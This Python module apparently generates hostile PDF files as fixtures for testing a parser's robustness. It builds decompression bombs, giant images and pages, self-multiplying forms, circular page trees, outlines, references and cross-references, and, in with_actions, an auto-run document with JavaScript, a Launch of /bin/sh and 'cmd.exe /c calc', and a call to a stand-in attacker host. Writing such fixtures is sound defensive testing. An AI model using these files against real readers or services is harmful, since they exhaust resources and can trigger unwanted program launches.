"""PDF files made to hurt whoever reads them, written as bytes and with pikepdf."""

import zlib
from collections.abc import Callable
from functools import reduce
from pathlib import Path

import pikepdf

TEXT = b"BT /F1 12 Tf 72 720 Td (Kommunen har beviljats 100 000 kronor) Tj ET"


def raw(objects: dict[int, bytes], root: int = 1) -> bytes:
    """A PDF of these numbered objects, with a cross-reference that is right."""
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start)
    return bytes(out)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), extra, content)


def one_page(content: bytes = TEXT, page: bytes = b"", more: dict[int, bytes] | None = None) -> dict[int, bytes]:
    """The objects of a document with one page: 1 the catalogue, 2 the tree, 3 the page, 4 its content, 5 a font."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> %s >>" % page,
        4: stream(content),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        **(more or {}),
    }


def flate_bomb() -> bytes:
    """A page's content of a kilobyte that is a gigabyte of spaces."""
    spaces, pieces = b" " * 2**20, 1024
    packer = zlib.compressobj(9, wbits=-zlib.MAX_WBITS)
    piece = packer.compress(spaces) + packer.flush(zlib.Z_FULL_FLUSH)  # can be repeated: it leans on nothing before it
    checksum = reduce(lambda sofar, _: zlib.adler32(spaces, sofar), range(pieces), 1)
    packed = zlib.compress(b"\x78\xda" + piece * pieces + packer.flush() + checksum.to_bytes(4, "big"), 9)
    objects = one_page()
    objects[4] = stream(packed, b"/Filter [/FlateDecode /FlateDecode]")
    return raw(objects)


def nested_arrays() -> bytes:
    return raw(one_page(page=b"/Odd " + b"[" * 100_000 + b"]" * 100_000))


def nested_operators() -> bytes:
    return raw(one_page(b"q " * 200_000 + TEXT))


def many_letters() -> bytes:
    """A page of a million letters on one spot."""
    return raw(one_page(b"BT /F1 1 Tf 72 720 Td " + b"(aaaaaaaaaa) Tj " * 100_000 + b"ET"))


def many_lines() -> bytes:
    """A page of half a million ruling lines."""
    return raw(one_page(b"".join(b"%d 0 m %d 800 l S\n" % (n % 500, n % 500) for n in range(500_000)) + TEXT))


def many_pages() -> bytes:
    """A hundred thousand pages that are one object."""
    objects = one_page()
    objects[2] = b"<< /Type /Pages /Kids [" + b"3 0 R " * 100_000 + b"] /Count 100000 >>"
    return raw(objects)


def count_that_lies() -> bytes:
    objects = one_page()
    objects[2] = b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"
    return raw(objects)


def giant_image() -> bytes:
    """A picture of ten thousand million pixels in a few bytes."""
    picture = stream(
        zlib.compress(b"\0" * 1000),
        b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8 "
        b"/Filter /FlateDecode",
    )
    objects = one_page(b"q 500 0 0 700 50 50 cm /Im Do Q")
    objects[3] = objects[3].replace(b"/Font <<", b"/XObject << /Im 6 0 R >> /Font <<")
    return raw({**objects, 6: picture})


def giant_page() -> bytes:
    objects = one_page()
    objects[3] = objects[3].replace(b"[0 0 595 842]", b"[0 0 1e9 1e9]")
    return raw(objects)


def form_in_itself() -> bytes:
    """A form that draws itself."""
    form = stream(
        b"/Fm Do " + TEXT,
        b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /Fm 6 0 R >> >>",
    )
    objects = one_page(b"/Fm Do " + TEXT)
    objects[3] = objects[3].replace(b"/Font <<", b"/XObject << /Fm 6 0 R >> /Font <<")
    return raw({**objects, 6: form})


def forms_that_multiply() -> bytes:
    """Thirty forms, each of which draws the next one twice: a thousand million drawings."""
    objects = one_page(b"/F0 Do " + TEXT)
    objects[3] = objects[3].replace(b"/Font <<", b"/XObject << /F0 6 0 R >> /Font <<")
    for n in range(30):
        resources = b"/Resources << /XObject << /F%d %d 0 R >> /Font << /F1 5 0 R >> >>" % (n + 1, n + 7)
        content = b"/F%d Do /F%d Do " % (n + 1, n + 1) if n < 29 else TEXT
        objects[n + 6] = stream(content, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] " + resources)
    return raw(objects)


def tree_in_a_circle() -> bytes:
    objects = one_page()
    objects[2] = b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 /Parent 2 0 R >>"
    return raw(objects)


def outline_in_a_circle() -> bytes:
    objects = one_page()
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>"
    objects[6] = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>"
    objects[7] = b"<< /Title (Mal) /Parent 6 0 R /Next 7 0 R /First 7 0 R >>"
    return raw(objects)


def reference_in_a_circle() -> bytes:
    objects = one_page()
    objects[4] = b"4 0 R"
    return raw(objects)


def length_that_is_its_own() -> bytes:
    objects = one_page()
    objects[4] = b"<< /Length 4 0 R >>\nstream\n" + TEXT + b"\nendstream"
    return raw(objects)


def cross_reference_in_a_circle() -> bytes:
    made = raw(one_page())
    start = made.rindex(b"startxref\n") + len(b"startxref\n")
    place = made[start:].split(b"\n", 1)[0]
    return made.replace(b"/Root 1 0 R >>", b"/Root 1 0 R /Prev %s >>" % place)


def cross_reference_that_is_wrong() -> bytes:
    made = raw(one_page())
    start = made.index(b"xref\n0")
    return made[:start] + made[start:].replace(b" 00000 n", b" 00000 f")


def fields_in_a_circle() -> bytes:
    objects = one_page(page=b"/Annots [6 0 R]")
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>"
    objects[6] = (
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Svar) /V (5) /Rect [72 600 200 620] /Parent 6 0 R "
        b"/Kids [6 0 R] >>"
    )
    return raw(objects)


def with_actions() -> bytes:
    """What would run a script, open a program and call a server as soon as it is opened."""
    objects = one_page(page=b"/AA << /O 6 0 R >>")
    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 7 0 R /AA << /WC 8 0 R >> >>"
    objects[6] = b"<< /S /JavaScript /JS (app.alert\\('hej'\\)) >>"
    objects[7] = b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    objects[8] = b"<< /S /URI /URI (https://angripare.example/hit) >>"
    return raw(objects)


def write_all(folder: Path) -> list[Path]:
    """All of them, as files named for what they are."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for make in BOMBS:
        path = folder / f"{make.__name__}.pdf"
        path.write_bytes(make())
        paths.append(path)
    return paths


BOMBS: tuple[Callable[[], bytes], ...] = (
    flate_bomb,
    nested_arrays,
    nested_operators,
    many_letters,
    many_lines,
    many_pages,
    count_that_lies,
    giant_image,
    giant_page,
    form_in_itself,
    forms_that_multiply,
    tree_in_a_circle,
    outline_in_a_circle,
    reference_in_a_circle,
    length_that_is_its_own,
    cross_reference_in_a_circle,
    cross_reference_that_is_wrong,
    fields_in_a_circle,
    with_actions,
)
"""Each gives a file's bytes."""


def attached(path: Path, files: dict[str, bytes]) -> Path:
    """A page of text with these files attached to it."""
    with pikepdf.open(path, allow_overwriting_input=True) as document:
        for name, content in files.items():
            document.attachments[name] = pikepdf.AttachedFileSpec(
                document, content, filename=name, description="", mime_type="", creation_date="", mod_date=""
            )
        document.save(path, deterministic_id=True)
    return path


def locked(path: Path, source: Path, password: str) -> Path:
    with pikepdf.open(source) as document:
        document.save(path, encryption=pikepdf.Encryption(owner=password, user=password))
    return path
